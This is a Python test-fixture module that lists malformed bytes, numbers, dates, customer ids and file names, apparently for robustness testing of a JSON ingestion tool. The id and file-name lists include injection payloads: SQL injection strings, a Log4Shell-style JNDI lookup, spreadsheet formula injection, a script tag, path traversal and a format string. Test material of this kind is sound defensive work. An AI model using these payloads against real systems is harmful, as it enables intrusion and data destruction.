"""Texts, numbers, dates, ids and names as they should not be."""

import codecs
import gzip

ONE_BYTE = ("cp1251", "koi8-r", "latin-1")
ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be")
MARKS = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE,
         "utf-32-le": codecs.BOM_UTF32_LE, "utf-32-be": codecs.BOM_UTF32_BE}  # fmt: skip

TEXTS: dict[str, bytes] = {
    "empty": b"", "spaces": b" \t ", "line ends": b"\r\n\r\n\n", "a mark alone": codecs.BOM_UTF8, "null": b"null",
    "true": b"true", "zero": b"0", "a number": b"-1.5e3", "a text": '"Иван"'.encode(),
    "a comma at the end": b'{"customer_id": "c1",}', "single quotes": b"{'customer_id': 'c2'}",
    "no quotes": b"{customer_id: c3}", "a comment": b'{"customer_id": "c4"} // c4',
    "Python": b"{'customer_id': None}", "a NUL": b'{"customer_id": "c5\x00"}', "NULs": b"\x00" * 64,
    "a control character": b'{"customer_id": "c6\x01"}', "a raw line end": b'{"customer_id": "c7\n"}',
    "a raw surrogate": b'{"customer_id": "c8\xed\xa0\x80"}', "overlong": b'{"customer_id": "c9\xc0\xaf"}',
    "beyond Unicode": b'{"customer_id": "c10\xf4\x90\x80\x80"}', "half a letter": b'{"customer_id": "c11\xd0"}',
    "a bad escape": b'{"customer_id": "c12\\x41"}', "a short escape": b'{"customer_id": "c13\\u12"}',
    "HTML": b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>", "XML": b'<?xml version="1.0"?><a/>',
    "CSV": b"customer_id;name\nc14;Ivan\n", "YAML": b"customer_id: c15\nname: Ivan\n",
    "a PNG": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "a ZIP": b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
    "a gzip": gzip.compress(b'{"customer_id": "c16"}', mtime=0), "closing brackets": b"}}}]]]",
    "an open text": b'{"a": "', "deep objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep and cut": b'{"a":' * 100_000, "many digits": b'{"customer_id": "c17", "n": ' + b"9" * 5_000 + b"}",
}  # fmt: skip

NUMBERS = ("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1e-400", "-0", "-0.0", "0.1e1", "1E5", "1e22",
           "9223372036854775807", "9223372036854775808", "-9223372036854775808", "-9223372036854775809",
           "18446744073709551616", "1" * 60, "99999999999999.99995", "0.30000000000000004", "5e-324",
           "1.7976931348623157e308", "01", "+1", ".5", "5.", "0x10", "1_000", "1,5", "12e", "--1", "٣")  # fmt: skip

DATES = (
    "0000-01-01", "0000-00-00T00:00:00Z", "0001-01-01", "1582-10-10", "1899-12-31T23:59:59Z", "1900-01-01",
    "1900-01-01T00:00:00+14:00", "1969-12-31T23:59:59.999Z", "2024-02-30", "2023-02-29", "2024-02-29", "2024-04-31",
    "2024-13-01", "2024-00-10", "2024-05-00", "2016-12-31T23:59:60Z", "2024-05-01T24:00:00Z", "2024-05-01T25:00:00Z",
    "2024-05-01T10:60:00Z", "2024-05-01T10:00:00+14:00", "2024-05-01T10:00:00-12:00", "2024-05-01T10:00:00+23:59",
    "2024-05-01T10:00:00+24:00", "2024-05-01T10:00:00+99:99", "2024-05-01T10:00:00+0545", "2024-05-01T10:00:00 Z",
    "2024-05-01T10:00:00Z[Europe/Moscow]", "2299-12-31T23:59:59.999Z", "2299-12-31T23:59:59-01:00", "2300-01-01",
    "9999-12-31T23:59:59Z", "9999-99-99", "10000-01-01", "+010000-01-01T00:00:00Z", "-0001-01-01", "99999-01-01",
    "01.05.2024", "5/1/2024", "May 1, 2024", "20240501", "2024-W18-3", "2024-121", "1714557600", "1714557600000",
    "now", "сегодня", "2024-05-01T10:00:00.123456789012Z", "2024-05-01\n", "２０２４-05-01",
)  # fmt: skip

IDS = (
    "=1+1", "+7900-1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.example","y")', "\t=1+1", "|calc", "%0a=1",
    "'; DROP TABLE mart.customers; --", "1 OR 1=1", "\\'; SELECT 1; --", "{id:String}", "${jndi:ldap://x.example/a}",
    "$ne", "a.b", "%s%n", "{{7*7}}", "<script>alert(1)</script>", "../../etc/passwd", "C:\\con", "a,b", 'a"b', "a;b",
    "a\nb", "a\rb", "a\r\nb", "a\tb", "a\x00b", "\x00", "a\x1b[31mb", "a\x85b", "a\u2028b", "a\u202eb", "a\u200bb",
    "\ufeffa", "null", "none", "nan", "true", "0", "00012", "1e5", "[bold]a[/bold]", "[/]", "[/red]", "#N/A", "ё",
    "е\u0308", "é", "e\u0301", "ß", "İstanbul", "ΑΣ", "ﬁ", "🥖", "👨‍👩‍👧", "x" * 512, "я" * 512, "a b", "a\u00a0b",
    "\\", "\\N", "''", '""', "``", "--", "/* a */", "a/b", "a?b#c&d=e", "enc:v1:k1:aaaa",
)  # fmt: skip
"""Ids of customers: SQL, formulas, control characters, what other formats take for something else."""

NO_IDS = ("x" * 513, " " + "x" * 512, "\u00a0", "\u2003\n", "\ud800", "a\udfff", "İ" * 500)

NAMES = (
    "с пробелом.json", "Ёлка и Щука.json", "q'uote\".json", "new\nline.json", "tab\t.json", "return\r.json",
    "ctl\x01.json", "a..b.json", "percent%.json", "%41.json", "%2e%2e%2f.json", "plus+.json", "a&b<c>.json",
    "#hash?.json", "~`$!.json", "🥖.json", "line\u2028.json", "esc\x1b.json", "é.json", "e\u0301.json", "=1+1.json",
    "' or 1=1 --.json", "CAPITALS.JSON", "папка/и ещё/внутри.json", "long-" + "x" * 240 + ".json", "*.json",
    "a;b.json", "{kind}.json", "..json", "...json", "-rf.json", "a.json.json", "nul.json", "a b .json",
)  # fmt: skip

NO_DOCUMENTS = (
    "readme.txt",
    "data.csv",
    "data.json.gz",
    "data.json.bak",
    "data",
    "data.xml",
    "json",
    "a.jsonl\n0",
    "x.JSONL.GZ ",
)
